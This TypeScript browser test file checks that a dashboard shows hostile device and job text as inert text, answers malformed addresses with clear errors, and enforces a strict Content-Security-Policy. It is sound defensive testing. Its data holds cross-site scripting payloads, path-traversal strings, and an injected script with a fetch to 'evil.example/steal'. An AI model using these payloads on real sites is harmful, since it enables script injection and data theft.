/**
 * Every page in a real browser, over a device and jobs that write markup wherever they may: all of
 * it is text, nothing of it runs, nothing is asked of another host, and the policy of the page
 * would stop it even if a page forgot.
 */
import type { Page } from 'playwright-core';
import { expect, onTestFinished, test } from 'vitest';
import { paths } from '@runnel/control-plane/dashboard/router.ts';
import { type Browsed, openBrowser } from '../support/chromium.ts';
import { TestControlPlane } from '../support/control-plane.ts';
import { BATCH, evil, HostileFleet, RUN, STREAM } from '../support/hostile-fleet.ts';
import { describeWith } from '../support/programs.ts';

interface Site extends Browsed {
  readonly control: TestControlPlane;
  readonly fleet: HostileFleet;
  /** Requests to any other host, which are answered with nothing. */
  readonly foreign: string[];
}

async function open(): Promise<Site> {
  const control = await TestControlPlane.start();
  onTestFinished(() => control.close());
  const fleet = await HostileFleet.start(control);
  onTestFinished(() => fleet.device.close());
  const browsed = await openBrowser();
  const foreign: string[] = [];
  await browsed.context.route(
    (url) => url.origin !== control.url,
    (route) => {
      foreign.push(route.request().url());
      return route.abort();
    },
  );
  const link = await control.post('/sign-in-links');
  await browsed.page.goto(link.json.url as string);
  await browsed.page.getByText('Live', { exact: true }).waitFor();
  return { control, fleet, foreign, ...browsed };
}

/** What must not be in a page: elements, attributes and addresses that came out of a text. */
const PLANTED = [
  ...['img[src="x"]', '[onerror]', '[onload]', '[onclick]', 'body script', 'script:not([src])'],
  ...['a[href^="javascript:" i]', 'iframe', 'object', 'embed', 'base', 'form[action]'],
].join(', ');

/** What may stand where a name is expected. */
const NO_NAMES: readonly string[] = [
  ...['%', '%E0%A4%A', '%zz%00', '%00', '..%2F..%2Fapi%2Fv1', '%252e%252e', 'plc.7', 'a%0Ab'],
  ...[encodeURIComponent(evil('x')), 'a'.repeat(4000)],
];

/** Addresses that nothing is at, and the heading that says so. */
function addresses(device: string): readonly (readonly [string, RegExp])[] {
  const long = 'a'.repeat(40_000);
  return [
    ...NO_NAMES.flatMap((name): (readonly [string, RegExp])[] => [
      [`/jobs/${name}`, /^No such job$/],
      [`/devices/${name}`, /^No such device$/],
      [`/runs/${name}?agent=${name}`, /^No such run here$/],
    ]),
    ['/alerts/%E0%A4%A', /^There is no such page$/],
    ['/x.js', /^There is no such page$/],
    ['/jobs/%22%3E/runs', /^No such job$/],
    [`/runs/${RUN}?agent=%00`, /^No such run here$/],
    [`/devices/${device}/x/y/z`, /^There is no such page$/],
    [`/jobs/${long}`, /^This address is too long$/],
  ];
}

async function expectInert(page: Page, path: string): Promise<void> {
  expect(await page.evaluate('window.pwned'), path).toBeUndefined();
  expect(await page.locator(PLANTED).count(), path).toBe(0);
  const hosts = await page.evaluate<string[]>(
    `[...document.querySelectorAll('[href], [src]')].map((e) => new URL(e.href || e.src).host)`,
  );
  expect([...new Set(hosts)], path).toEqual([new URL(page.url()).host]);
}

describeWith(['chromium'], 'what a hostile device and job wrote', () => {
  test('is text on every page', async () => {
    const { control, fleet, foreign, page, errors, requests } = await open();
    const { id } = fleet.device;
    /** Each page, and a word of the hostile text that it shows. */
    const pages: readonly (readonly [string, string | null])[] = [
      [paths.device(id), 'condition "'],
      [paths.job(STREAM), 'text "'],
      [paths.job(BATCH), 'refusal "'],
      [paths.jobRuns(BATCH), 'task "'],
      [paths.run(RUN, id), 'log "'],
      [paths.run(RUN, id), 'error "'],
      [paths.events, 'alert "'],
      [paths.overview, 'condition "'],
      [paths.devices, 'condition "'],
      [paths.alerts(), 'condition "'],
      [paths.job(STREAM, 'versions'), null],
      [paths.job(STREAM, 'rollout'), null],
      [paths.job(STREAM, 'parameters'), null],
      [paths.job(STREAM, 'slas'), null],
      // Whatever else the page has, and what is asked for in an address.
      ...Object.values(paths).flatMap((path) =>
        typeof path === 'string' ? ([[path, null]] as const) : [],
      ),
      [paths.jobRuns(BATCH, evil('agent')), null],
    ];
    for (const [path, word] of pages) {
      await page.goto(control.url + path);
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      if (word !== null) await page.getByText(word).first().waitFor();
      await page.locator('.loading').first().waitFor({ state: 'detached' });
      await expectInert(page, path);
    }
    // Charts name their series by what results hold.
    await page.goto(control.url + paths.job(STREAM));
    await page.locator('.chart canvas').first().waitFor();
    await fleet.report();
    await expectInert(page, 'a chart');
    // Pages that say that something is not there were answered 400 or 404 for it.
    expect(errors.filter((text) => !/status of 40[04]/.test(text))).toEqual([]);
    expect(foreign).toEqual([]);
    const hosts = new Set(requests.map((url) => new URL(url).host));
    expect([...hosts]).toEqual([new URL(control.url).host]);
  }, 120_000);

  test('is told at once when it stands in an address', async () => {
    const { control, fleet, foreign, page, errors } = await open();
    const { id } = fleet.device;
    for (const [path, heading] of addresses(id)) {
      const shown = path.slice(0, 120);
      await page.goto(control.url + path);
      const title = page.getByRole('heading', { level: 1 });
      await title.filter({ hasText: heading }).waitFor({ timeout: 5000 });
      expect(await title.count(), shown).toBe(1);
      await page.locator('.loading').first().waitFor({ state: 'detached' });
      // Somewhere to go on to, and nothing that is wider than the window.
      expect(
        await page.getByRole('link', { name: /^To the |^Jobs$/ }).count(),
        shown,
      ).toBeGreaterThan(0);
      const wide = await page.evaluate('document.documentElement.scrollWidth > innerWidth');
      expect(wide, shown).toBe(false);
      await expectInert(page, shown);
    }
    expect(errors.filter((text) => !/status of 4\d\d/.test(text))).toEqual([]);
    expect(foreign).toEqual([]);
  }, 180_000);

  test('would be stopped by the policy of the page if a page forgot', async () => {
    const { control, foreign, page, errors } = await open();
    const answer = await page.goto(control.url);
    const policy = (await answer?.headerValue('content-security-policy')) ?? '';
    const rules = Object.fromEntries(
      policy.split('; ').map((rule) => {
        const [name = '', ...sources] = rule.split(' ');
        return [name, sources.join(' ')];
      }),
    );
    for (const name of ['default-src', 'script-src', 'style-src', 'connect-src']) {
      expect(rules[name], name).toBe("'self'");
    }
    for (const name of ['base-uri', 'object-src', 'frame-ancestors']) {
      expect(rules[name], name).toBe("'none'");
    }
    await page.evaluate(`{
      window.stopped = [];
      addEventListener('securitypolicyviolation', (e) => window.stopped.push(e.effectiveDirective));
      document.body.insertAdjacentHTML('beforeend',
        '<img src=x onerror="window.pwned=1"><img src="http://evil.example/x.png">' +
        '<iframe src="http://evil.example/"></iframe><base href="http://evil.example/">' +
        '<a id="planted" href="javascript:window.pwned=1">x</a><p style="color:red">x</p>');
      const inline = document.createElement('script');
      inline.textContent = 'window.pwned = 1';
      const remote = document.createElement('script');
      remote.src = 'http://evil.example/x.js';
      document.body.append(inline, remote);
      fetch('http://evil.example/steal').catch(() => undefined);
      try { new WebSocket('ws://evil.example/'); } catch {}
      document.getElementById('planted').click();
    }`);
    const expected = ['script-src-attr', 'script-src-elem', 'img-src', 'connect-src', 'base-uri'];
    await page.waitForFunction(`${JSON.stringify(expected)}.every((x) => stopped.includes(x))`);
    expect(await page.evaluate('window.pwned')).toBeUndefined();
    expect(foreign).toEqual([]);
    expect(errors.length).toBeGreaterThan(0);
  }, 120_000);
});
